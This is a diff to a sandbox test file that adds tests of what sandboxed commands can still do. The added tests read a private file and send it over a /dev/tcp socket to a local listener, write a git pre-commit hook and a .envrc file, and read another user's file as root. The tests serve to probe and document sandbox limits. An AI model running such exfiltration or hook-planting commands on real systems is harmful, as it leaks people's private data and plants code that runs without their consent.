@@ -1,6 +1,6 @@
 // What a sandboxed command can do, and what it cannot: each by a real command in a real sandbox.
 import { execFileSync } from "node:child_process"
-import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs"
+import { chmodSync, chownSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs"
 import { createServer } from "node:net"
 import { tmpdir } from "node:os"
 import { join } from "node:path"
@@ -168,6 +168,38 @@ describe.each(SANDBOXES)("a command in a sandbox by $by", ({ by }) => {
       /Connection refused|Network is unreachable/,
     )
   })
+
+  test("reads what the person can read, and can send it away", async () => {
+    const at = confined()
+    writeFileSync(join(at.outside, "private"), "of-the-person", { mode: 0o600 })
+    const server = createServer().listen(0, "127.0.0.1")
+    onTestFinished(() => void server.close())
+    const sent = new Promise((settle) =>
+      server.once("connection", (socket) => socket.once("data", (data) => settle(String(data)))),
+    )
+    await new Promise((ready) => server.once("listening", ready))
+    const { port } = server.address() as { port: number }
+    expect((await at.bash(`cat ${at.outside}/private > /dev/tcp/127.0.0.1/${port}`)).error).not.toBe(true)
+    expect(await sent).toBe("of-the-person")
+  })
+
+  test("can change .git and what other programs run by themselves", async () => {
+    const at = confined()
+    await at.bash("git init -q; echo 'exit 1' > .git/hooks/pre-commit; echo 'echo hi' > .envrc")
+    expect(readFileSync(at.file(".git/hooks/pre-commit"), "utf8")).toBe("exit 1\n")
+    expect(readFileSync(at.file(".envrc"), "utf8")).toBe("echo hi\n")
+  })
+
+  test.skipIf(process.getuid?.() !== 0)(
+    "as root, reads files that others keep to themselves only by bubblewrap",
+    async () => {
+      const at = confined()
+      const theirs = at.file("theirs", "hush")
+      chmodSync(theirs, 0o600)
+      chownSync(theirs, 12345, 12345)
+      expect((await at.bash("cat theirs")).output.includes("hush")).toBe(by === "bubblewrap")
+    },
+  )
 
   test("goes on in the background until it is ended, in a sandbox of its own", async () => {
     const at = confined()
